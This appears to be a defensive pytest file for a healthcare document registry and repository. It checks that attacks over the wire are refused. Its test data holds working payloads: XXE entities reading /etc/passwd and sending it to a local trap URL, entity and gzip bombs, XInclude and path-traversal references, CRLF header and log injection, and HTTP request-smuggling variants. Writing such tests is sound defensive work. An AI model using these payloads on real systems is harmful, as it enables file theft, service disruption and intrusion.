"""Attacks on whoever reads a message, over the wire: each is refused or does nothing, and harms nobody.

Every case shows the answer, that nothing is stored, that nobody is called, that neither time nor memory is
lost, and that the server is well afterwards. Those on assertions are in `test_xua_attacks.py`, those that
wrap signatures in `test_xua_wrapping.py`.
"""

import contextlib
import gzip
import re
import socket
import time
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from urllib.parse import urlsplit

import pytest

from tests.messages.requests import (
    FAILURE,
    ITI_18,
    ITI_41,
    ITI_42,
    SUCCESS,
    Submission,
    find_documents,
    provide,
    registered,
    submission,
)
from tests.services.platform import Platform, storing_nothing
from tests.wire import MTOM_TYPE, HttpAnswer, Part, envelope, include, multipart, post, root_part

# A refusal costs milliseconds; what takes this long, on a busy machine too, has been made to work.
MOST_SECONDS = 10.0
# The message itself, its tree and what the allocator keeps; a bomb would need gigabytes.
MOST_BYTES = 200 * 1024 * 1024


@pytest.fixture
def trap() -> Iterator[socket.socket]:
    """Listens where an attack would have the server call; to be left alone."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.setblocking(False)
        yield listening


def url_of(trap: socket.socket) -> str:
    return f"http://127.0.0.1:{trap.getsockname()[1]}/x"


@contextlib.contextmanager
def harmless(platform: Platform, patient_id: str, trap: socket.socket) -> Iterator[None]:
    """What is sent inside stores nothing, calls nobody, and costs neither time nor memory."""
    with storing_nothing(platform, patient_id):
        before = platform.peak_memory_bytes
        began = time.monotonic()
        yield
        assert time.monotonic() - began < MOST_SECONDS
        assert platform.peak_memory_bytes - before < MOST_BYTES
    with pytest.raises(BlockingIOError):
        trap.accept()


def registration(sent: Submission) -> bytes:
    return envelope(ITI_42, sent.submit_objects_request)


def fresh(platform: Platform) -> Submission:
    """A submission to the registry in which nothing is wrong."""
    nothing = "da39a3ee5e6b4b0d3255bfef95601890afd80709"
    return submission(platform.add_patient(), slots=registered(nothing, 0))


NO_DTD = ("Sender", None, "the message is not readable XML: a document type declaration is not accepted")

BOMB = '<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)
DOCUMENT_TYPES = {
    "an entity from a file": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "an entity from the network": '<!DOCTYPE x [<!ENTITY a SYSTEM "{trap}">]>',
    "a parameter entity from the network": '<!DOCTYPE x [<!ENTITY % a SYSTEM "{trap}"> %a;]>',
    "a parameter entity that carries a file away": (
        '<!DOCTYPE x [<!ENTITY % file SYSTEM "file:///etc/passwd">'
        "<!ENTITY % all \"<!ENTITY a SYSTEM '{trap}?%file;'>\"> %all;]>"
    ),
    "a document type from the network": '<!DOCTYPE x SYSTEM "{trap}">',
    "a public document type": '<!DOCTYPE x PUBLIC "-//X//EN" "{trap}">',
    "an entity bomb": f"<!DOCTYPE x [{BOMB}]>",
    "one long entity many times": f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]>',
    "attributes by default": '<!DOCTYPE x [<!ATTLIST x a CDATA "evil">]>',
    "a document type after a comment": '<!-- x --><?x?><!DOCTYPE x [<!ENTITY a "x">]>',
}


@pytest.mark.parametrize("name", DOCUMENT_TYPES)
def test_a_document_type_is_refused_before_anything_of_it_is_read(platform, trap, name):
    """ITI TF-2: V.3; SOAP 1.2 Part 1: 5."""
    sent = fresh(platform)
    prolog = DOCUMENT_TYPES[name].replace("{trap}", url_of(trap))
    message = registration(sent).replace(b"Muller", b"&a;" * (20_000 if "many times" in name else 1))
    with harmless(platform, sent.patient_id, trap):
        answer = post(platform.registry_url, prolog.encode() + message)
        assert (answer.status, answer.fault) == (400, NO_DTD)


def test_a_document_type_in_utf_16_is_seen(platform, trap):
    """XML 1.0: 4.3.3; whatever the bytes look like."""
    sent = fresh(platform)
    text = f'<!DOCTYPE x SYSTEM "{url_of(trap)}">' + registration(sent).decode()
    with harmless(platform, sent.patient_id, trap):
        content_type = "application/soap+xml; charset=UTF-16"
        answer = post(platform.registry_url, text.encode("utf-16"), content_type)
        assert (answer.status, answer.fault) == (400, NO_DTD)


def within_the_body(inside: str) -> Callable[[bytes], bytes]:
    return lambda message: message.replace(b"<soap:Body>", f"<soap:Body>{inside}".encode())


def on_the_envelope(attributes: str) -> Callable[[bytes], bytes]:
    return lambda message: message.replace(b"<soap:Envelope", f"<soap:Envelope {attributes}".encode())


XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
INCLUDED = f'<xi:include {XI} href="file:///etc/passwd" parse="text"/>'


@dataclass(frozen=True)
class Bomb:
    """How a good message is spoilt, and the fault that it gets."""

    change: Callable[[bytes], bytes]
    reason: str


TOO_WIDE = "the message is not readable XML: an element has more than 1000 attributes"
TOO_DEEP = "the message is not readable XML: elements are nested more than 256 deep"

BOMBS = {
    "an XInclude in the Body": Bomb(
        within_the_body(INCLUDED), "the Body must hold exactly one element, not 2"
    ),
    "an element with very many attributes": Bomb(
        on_the_envelope(" ".join(f'a{number}="x"' for number in range(100_000))), TOO_WIDE
    ),
    "an element with very many namespaces": Bomb(
        on_the_envelope(" ".join(f'xmlns:n{number}="urn:{number}"' for number in range(1_000_001))),
        "the message is not readable XML: there are more than 1000000 attributes",
    ),
    "more attributes than a message may have": Bomb(
        within_the_body('<a b=""/>' * 400_000 + '<a b="" c="" d="" e="" f=""/>' * 130_000),
        "the message is not readable XML: there are more than 500000 elements",
    ),
    "elements within elements": Bomb(within_the_body("<a>" * 100_000), TOO_DEEP),
    "a name of a megabyte": Bomb(
        within_the_body(f"<{'a' * 1_000_000}/>"), "the message is not readable XML: Name too long: NCName"
    ),
}


@pytest.mark.parametrize("name", BOMBS)
def test_what_would_grow_in_memory_is_refused(platform, trap, name):
    """ITI TF-2: V.3; XML Inclusions 1.0: 4."""
    sent, bomb = fresh(platform), BOMBS[name]
    with harmless(platform, sent.patient_id, trap):
        answer = post(platform.registry_url, bomb.change(registration(sent)))
        assert (answer.status, answer.fault) == (400, ("Sender", None, bomb.reason))


def test_an_xinclude_in_the_metadata_is_no_metadata(platform, trap):
    """ITI TF-3: 4.2.3; it is an element that does not belong there, and stays one."""
    sent = fresh(platform)
    message = registration(sent)
    assert b"<rim:Value>" in message
    with harmless(platform, sent.patient_id, trap):
        answer = post(
            platform.registry_url, message.replace(b"<rim:Value>", f"<rim:Value>{INCLUDED}".encode(), 1)
        )
        assert answer.status_urn == FAILURE
        assert b"root:" not in answer.body


def test_a_place_of_a_schema_is_nowhere_to_look(platform, trap):
    """XML Schema Part 1: 4.3.2; clients say where schemas lie, and nobody goes there."""
    attributes = (
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="http://www.w3.org/2003/05/soap-envelope {url_of(trap)} '
        f'urn:oasis:names:tc:ebxml-regrep:xsd:query:3.0 file:///etc/passwd" '
        f'xsi:noNamespaceSchemaLocation="{url_of(trap)}"'
    )
    patient_id = platform.add_patient()
    message = on_the_envelope(attributes)(envelope(ITI_18, find_documents(patient_id)))
    message = b'<?xml-stylesheet type="text/xsl" href="%s"?>' % url_of(trap).encode() + message
    with harmless(platform, patient_id, trap):
        assert post(platform.registry_url, message).status_urn == SUCCESS


REFERENCES = {
    "a file": ("file:///etc/passwd", "the href of an xop:Include must be a cid: URL"),
    "the network": ("{trap}", "the href of an xop:Include must be a cid: URL"),
    "a relative place": ("../../etc/passwd", "the href of an xop:Include must be a cid: URL"),
    "data of its own": ("data:text/plain,evil", "the href of an xop:Include must be a cid: URL"),
    "another scheme in upper case": ("FILE:///etc/passwd", "the href of an xop:Include must be a cid: URL"),
}


def inclusion(href: str) -> str:
    return f'<xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="{href}"/>'


def provided(platform: Platform, sent: Submission, *hrefs: str, parts: tuple[Part, ...]) -> HttpAnswer:
    """ITI-41 in which each document is what one of these references leads to."""
    documents = [(f"Document{number}", inclusion(href)) for number, href in enumerate(hrefs, 1)]
    body = provide(sent.submit_objects_request, *documents)
    return post(platform.repository_url, multipart(root_part(envelope(ITI_41, body)), *parts), MTOM_TYPE)


DOCUMENT = Part("part1@wire", b"a letter", "text/plain")


@pytest.mark.parametrize("name", REFERENCES)
def test_a_document_comes_from_its_message_and_from_nowhere_else(platform, trap, name):
    """XOP 1.0: 4.2; RFC 2392."""
    href, reason = REFERENCES[name]
    sent = submission(platform.add_patient())
    with harmless(platform, sent.patient_id, trap):
        answer = provided(platform, sent, href.replace("{trap}", url_of(trap)), parts=(DOCUMENT,))
        assert (answer.status, answer.fault) == (400, ("Sender", None, reason))


@pytest.mark.parametrize(
    "href", ["cid:root@wire", "cid:../../../etc/passwd", "cid:%2e%2e%2fetc%2fpasswd", "cid:/etc/passwd"]
)
def test_a_reference_leads_to_a_part_that_is_a_document(platform, trap, href):
    """RFC 2392; neither to the envelope itself nor to a file by that name."""
    sent = submission(platform.add_patient())
    with harmless(platform, sent.patient_id, trap):
        answer = provided(platform, sent, href, parts=(DOCUMENT,))
        assert answer.status_urn == FAILURE
        assert answer.codes == ["XDSMissingDocument", "XDSMissingDocumentMetadata"]


def test_one_part_is_one_document(platform, trap):
    """ITI TF-2: 3.41.4.1.2; small messages must not make many documents."""
    sent = submission(platform.add_patient(), 2)
    with harmless(platform, sent.patient_id, trap):
        answer = provided(platform, sent, "cid:part1@wire", "cid:part1@wire", parts=(DOCUMENT,))
        assert answer.status_urn == FAILURE
        assert answer.errors == [
            (
                "XDSMissingDocument",
                "xds:Document Document2 refers to cid:part1@wire, which is xds:Document Document1",
            )
        ]


def test_a_part_is_not_there_twice_under_one_name(platform, trap):
    """RFC 2045: 7; or two readers could take two different documents for the one that is meant."""
    sent = submission(platform.add_patient())
    other = Part("part1@wire", b"another letter", "text/plain")
    with harmless(platform, sent.patient_id, trap):
        answer = provided(platform, sent, "cid:part1@wire", parts=(DOCUMENT, other))
        assert answer.fault == ("Sender", None, "MIME part 3 has the Content-ID of a part before it")


def test_a_reference_in_plain_soap_leads_nowhere(platform, trap):
    """XOP 1.0: 4.1; there are no parts, and files are none."""
    for href in ("file:///etc/passwd", url_of(trap)):
        sent = submission(platform.add_patient())
        body = provide(sent.submit_objects_request, ("Document1", inclusion(href)))
        with harmless(platform, sent.patient_id, trap):
            answer = post(platform.repository_url, envelope(ITI_41, body))
            assert answer.fault == ("Sender", None, "the href of an xop:Include must be a cid: URL")


EVIL_TYPES = ("text/plain&#13;&#10;X-Evil: 1", "text/plain&#10;&#10;&lt;html&gt;", "text/plain; x=&#13;&#10;")


@pytest.mark.parametrize("mime_type", EVIL_TYPES)
def test_a_mime_type_brings_no_headers_into_answers(platform, trap, mime_type):
    """RFC 2045: 5.1; it would stand in the head of a MIME part when the document is retrieved."""
    sent = submission(platform.add_patient())
    metadata = sent.submit_objects_request
    assert 'mimeType="text/plain"' in metadata
    body = provide(
        metadata.replace('mimeType="text/plain"', f'mimeType="{mime_type}"'),
        ("Document1", include("part1@wire")),
    )
    with harmless(platform, sent.patient_id, trap):
        message = multipart(root_part(envelope(ITI_41, body)), DOCUMENT)
        answer = post(platform.repository_url, message, MTOM_TYPE)
        assert answer.status_urn == FAILURE
        assert set(answer.codes) == {"XDSRepositoryMetadataError"}
        assert "x-evil" not in answer.headers


def test_the_head_of_a_part_names_no_file(platform, trap):
    """RFC 2183: 5; a document is stored under a name of our own, whatever the part is called."""
    sent = submission(platform.add_patient())
    body = provide(sent.submit_objects_request, ("Document1", include("part1@wire")))
    message = multipart(root_part(envelope(ITI_41, body)), DOCUMENT).replace(
        b"Content-ID: <part1@wire>",
        b'Content-ID: <part1@wire>\r\nContent-Disposition: attachment; filename="../../../evil"\r\n'
        b"Content-Location: file:///tmp/evil\r\nContent-Encoding: gzip",
    )
    answer = post(platform.repository_url, message, MTOM_TYPE)
    assert answer.status_urn == SUCCESS
    assert not list(platform.directory.parent.rglob("*evil*"))
    assert platform.retrieve(sent.unique_ids[0]).parts[1][1] == b"a letter"
    with pytest.raises(BlockingIOError):
        trap.accept()


HEADS = {
    "a header in the value of another": (
        b"Content-ID: <part1@wire>", b"Content-ID: <part1@wire\rX-Evil: 1>",
        "the Content-ID of MIME part 2 holds white space or control characters",
    ),
    "a zero in a header": (
        b"Content-ID: <part1@wire>", b"Content-ID: <part1\0@wire>",
        "the Content-ID of MIME part 2 holds white space or control characters",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", HEADS)
def test_the_head_of_a_part_is_read_in_one_way(platform, trap, name):
    """RFC 5322: 2.2; RFC 2045: 7."""
    good, bad, reason = HEADS[name]
    sent = submission(platform.add_patient())
    body = provide(sent.submit_objects_request, ("Document1", include("part1@wire")))
    message = multipart(root_part(envelope(ITI_41, body)), DOCUMENT)
    assert good in message
    with harmless(platform, sent.patient_id, trap):
        answer = post(platform.repository_url, message.replace(good, bad), MTOM_TYPE)
        assert (answer.status, answer.fault) == (400, ("Sender", None, reason))


def test_what_a_peer_writes_begins_no_line_of_the_log(platform, trap):
    """CWE-117, RFC 9110: 5.5; neither of the log nor of the head of the answer."""
    evil = "urn:x&#10;2030-01-01 00:00:00,000  INFO  forged"
    patient_id = platform.add_patient()
    message = envelope(ITI_18, find_documents(patient_id), message_id=evil)
    with harmless(platform, patient_id, trap):
        answer = post(platform.registry_url, message)
        assert answer.status == 400
        post(platform.registry_url, message, headers={"SOAPAction": "x", "X-Forwarded-For": "forged"})
    assert "forged" not in platform.log


CODINGS = {
    "gzip": gzip.compress(b" " * 50_000_000, 9),
    "x-gzip": gzip.compress(b" " * 50_000_000, 9),
    "deflate": zlib.compress(b" " * 50_000_000, 9),
    "br": b"\x1b\x00",
    "zstd": b"(\xb5/\xfd",
    "gzip, gzip": gzip.compress(gzip.compress(b" " * 50_000_000)),
    "compress": b"\x1f\x9d",
}


@pytest.mark.parametrize("coding", CODINGS)
def test_nothing_is_decompressed(platform, trap, coding):
    """RFC 9110: 8.4, 15.5.16."""
    patient_id = platform.add_patient()
    with harmless(platform, patient_id, trap):
        for content_type in ("application/soap+xml; charset=UTF-8", MTOM_TYPE):
            answer = post(
                platform.repository_url, CODINGS[coding], content_type, {"Content-Encoding": coding}
            )
            reason = "the Content-Encoding must be absent or identity: nothing is decompressed here"
            assert (answer.status, answer.fault) == (415, ("Sender", None, reason))


SMUGGLED = b"GET /healthz HTTP/1.1\r\nHost: smuggled\r\nConnection: close\r\n\r\n"
HEAD = b"POST /registry HTTP/1.1\r\nHost: x\r\nContent-Type: application/soap+xml\r\n"
EMPTY_CHUNK = b"\r\n\r\n0\r\n\r\n"

MISLEADING = {
    "both lengths, chunked last": (
        b"Content-Length: %d\r\nTransfer-Encoding: chunked" % (len(SMUGGLED) + 5) + EMPTY_CHUNK, 400
    ),
    "both lengths, chunked first": (b"Transfer-Encoding: chunked\r\nContent-Length: 5" + EMPTY_CHUNK, 400),
    "two lengths": (b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(SMUGGLED), 400),
    "a list of lengths": (b"Content-Length: 0, %d\r\n\r\n" % len(SMUGGLED), 400),
    "a length with a sign": (b"Content-Length: +0\r\n\r\n", 400),
    "a negative length": (b"Content-Length: -1\r\n\r\n", 400),
    "a length in hexadecimal": (b"Content-Length: 0x0\r\n\r\n", 400),
    "a length of more than 64 bits": (b"Content-Length: 18446744073709551616\r\n\r\n", 400),
    "an unknown coding": (b"Transfer-Encoding: xchunked" + EMPTY_CHUNK, 501),
    "a coding after chunked": (b"Transfer-Encoding: chunked, identity" + EMPTY_CHUNK, 400),
    "a coding before chunked": (b"Transfer-Encoding: gzip, chunked" + EMPTY_CHUNK, 501),
    "two codings": (b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity" + EMPTY_CHUNK, 400),
    "a blank before the colon": (b"Transfer-Encoding : chunked" + EMPTY_CHUNK, 400),
    "a control character before chunked": (b"Transfer-Encoding: \x0bchunked" + EMPTY_CHUNK, 400),
    "a header folded": (b"X: a\r\n Content-Length: 5\r\nContent-Length: 0\r\n\r\n", 400),
    "a header after a bare CR": (b"X: a\rContent-Length: 5\r\nContent-Length: 0\r\n\r\n", 400),
    "a zero in a header": (b"X: a\0\r\nContent-Length: 0\r\n\r\n", 400),
    "lines without CR": (b"Content-Length: 0\n\n", 400),
    "two hosts": (b"Host: y\r\nContent-Length: 0\r\n\r\n", 400),
    "a chunk of more than 64 bits": (b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n", 400),
    "a chunk of negative length": (b"Transfer-Encoding: chunked\r\n\r\n-1\r\n", 400),
    "a chunk in another notation": (b"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n", 400),
    "a chunk longer than it says": (b"Transfer-Encoding: chunked\r\n\r\n1\r\nabc\r\n0\r\n\r\n", 400),
    "a length after the chunks": (b"Transfer-Encoding: chunked\r\n\r\n0\r\nContent-Length: 5\r\n\r\n", 400),
}  # fmt: skip


@pytest.mark.parametrize("name", MISLEADING)
def test_no_request_hides_within_another(platform, trap, name):
    """RFC 9112: 6.1, 6.3, 11.2: what a proxy may read in another way is refused, and its connection ends."""
    rest, status = MISLEADING[name]
    with harmless(platform, platform.add_patient(), trap):
        with socket.create_connection(("127.0.0.1", urlsplit(platform.url).port), MOST_SECONDS) as connection:
            connection.sendall(HEAD + rest + SMUGGLED)
            heard = bytearray()
            with contextlib.suppress(ConnectionError):
                while data := connection.recv(65536):
                    heard += data
        assert re.findall(rb"HTTP/1.1 (\d+)", heard) == [str(status).encode()]
